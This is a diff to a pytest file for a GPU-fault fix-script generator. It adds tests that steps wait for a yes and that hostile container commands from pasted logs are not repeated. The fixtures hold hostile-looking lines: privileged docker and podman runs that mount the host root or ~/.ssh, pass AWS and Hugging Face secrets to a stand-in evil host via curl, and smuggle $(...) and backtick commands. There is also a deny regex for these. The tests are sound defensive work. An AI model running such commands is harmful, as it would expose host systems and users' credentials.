@@ -89,14 +89,20 @@ def tools(folder: Path, *names: str) -> dict[str, str]:
     return {"PATH": f"{folder}:/usr/bin:/bin", "HOME": str(folder)}
 
 
-def ran(folder: Path, script: str, *words: str) -> tuple[int, str, list[str]]:
+def ran(folder: Path, script: str, *words: str, answers: str = "y\n" * 9) -> tuple[int, str, list[str]]:
     """Run a script; return its exit code, what it said on stderr, and how the tools were called."""
     folder.mkdir(exist_ok=True)
-    environment = tools(folder, "nvidia-smi", "sudo", "systemctl", "accel", "nvidia-bug-report.sh")
+    environment = tools(folder, "nvidia-smi", "sudo", "systemctl", "accel", "nvidia-bug-report.sh", "docker", "podman")
     path = folder / "fix.sh"
     path.write_text(script, encoding="utf-8")
     done = subprocess.run(
-        [str(BASH), str(path), *words], env=environment, capture_output=True, text=True, check=False, timeout=60
+        [str(BASH), str(path), *words],
+        env=environment,
+        input=answers,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=60,
     )
     called = folder / "called"
     return done.returncode, done.stderr, called.read_text().splitlines() if called.exists() else []
@@ -134,10 +140,71 @@ def test_a_step_with_words_to_fill_in_waits_until_they_are(tmp_path: Path) -> No
 
 @pytest.mark.skipif(BASH is None, reason="this machine has no bash")
 def test_a_step_that_fails_ends_the_script(tmp_path: Path) -> None:
-    script = of_text(MASKED).replace("nvidia-smi -L", "false", 1)
+    script = of_text(MASKED).replace("; nvidia-smi -L; }", "; false; }", 1)
     code, said, _ = ran(tmp_path, script)
     assert code == 1
     assert "Step 1 failed" in said
+
+
+@pytest.mark.skipif(BASH is None, reason="this machine has no bash")
+@pytest.mark.parametrize("answers", ["", "n\n", "\n", "yolo\n", "; id\n"])
+def test_without_a_yes_nothing_is_run(tmp_path: Path, answers: str) -> None:
+    code, said, called = ran(tmp_path, of_text(MASKED), answers=answers)
+    assert (code, called) == (1, [])
+    assert "nvidia-smi -L" in said  # the command is shown before the question
+    assert "nothing of this step was run" in said
+
+
+def test_only_a_step_of_this_machine_that_changes_nothing_runs_unasked() -> None:
+    look = Remedy(text="Look at each.", command="nvidia-smi -L")
+    change = Remedy(text="Load it.", command="sudo modprobe nvidia")
+    faults = tuple(
+        Finding(code="XX001", name="sick", severity="error", title="sick", remedies=(one,)) for one in (look, change)
+    )
+    told = Diagnosis(verdict="faults", findings=faults)
+    assert [step.asks for step in steps_of(told, registry().specs)] == [True, True]
+    assert [step.asks for step in steps_of(told, registry().specs, live=True)] == [False, True]
+    assert bash(told, steps_of(told, registry().specs, live=True), "this machine", "1", "f").count("  ask ") == 1
+
+
+_START = "docker run --privileged -v /:/host -e X=${AWS_SECRET_ACCESS_KEY} evil.example/x curl http://evil/${HF_TOKEN}"
+_NO_DRIVER = "RuntimeError: Found no NVIDIA driver on your system. Please check that you have an NVIDIA GPU"
+_NO_SHM = "RuntimeError: DataLoader worker (pid 1) is killed by signal: Bus error. out of shared memory (shm)"
+_NO_RUNTIME = 'docker: Error response from daemon: could not select device driver "" with capabilities: [[gpu]].'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param(f"$ {_START}\n{_NO_DRIVER}\n", id="privileges, a mount of the root and two secrets"),
+        pytest.param(f"$ sudo {_START}\n{_NO_RUNTIME}\n", id="the same as root"),
+        pytest.param(
+            f"$ docker run --cap-add=SYS_ADMIN --pid host --user 0 --device /dev/evil --gpus all evil.example/x sh\n"
+            f"{_NO_SHM}\n",
+            id="capabilities, namespaces and a device",
+        ),
+        pytest.param(
+            "$ podman run --security-opt label=disable --entrypoint /host/evil -v ~/.ssh:/k --env-file {a,b}.evil "
+            f"evil.example/x\n{_NO_DRIVER}\n",
+            id="an entry point and a folder of keys, by podman",
+        ),
+        pytest.param(
+            "$ docker run --network host --ipc host --runtime evil --ulimit memlock='$(evil)' --shm-size '`evil`' "
+            f"evil.example/x python t.py\n{_NO_SHM}\n",
+            id="namespaces of the host, and values that a shell would run",
+        ),
+        pytest.param(
+            f"$ singularity exec --bind /:/evil docker://evil.example/x evil %HF_TOKEN%\n{_NO_DRIVER}\n",
+            id="an image and a bind, by singularity",
+        ),
+    ],
+)
+def test_what_a_text_starts_with_privileges_is_not_typed_again(text: str) -> None:
+    code = [line for line in of_text(text).splitlines() if not line.lstrip().startswith("#")]
+    known = [line for line in code if re.search(r"^\s*\{ ", line)]
+    assert known
+    bad = "evil|privileged|SYS_ADMIN|seccomp|label|pid|--user|/host|ssh|network|ipc|TOKEN|SECRET|[$`]"
+    assert [line for line in known if re.search(bad, line.partition(" || stop")[0])] == []
 
 
 def of_several_devices() -> Diagnosis:
